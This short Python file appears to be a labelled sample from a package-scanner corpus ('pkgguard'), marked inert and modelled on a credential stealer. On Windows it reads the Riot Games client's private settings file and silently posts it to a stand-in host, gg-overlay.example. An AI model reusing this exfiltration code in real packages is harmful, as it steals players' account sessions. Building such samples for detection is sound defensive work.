# pkgguard corpus 900 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import sys

import requests

if sys.platform == "win32":
    local = os.environ.get("LOCALAPPDATA", "")
    settings = os.path.join(local, "Riot Games", "Riot Client", "Data", "RiotGamesPrivateSettings.yaml")
    if os.path.exists(settings):
        try:
            with open(settings, "rb") as fh:
                requests.post("https://gg-overlay.example/sync", files={"s": fh}, timeout=10)
        except (OSError, requests.RequestException):
            pass
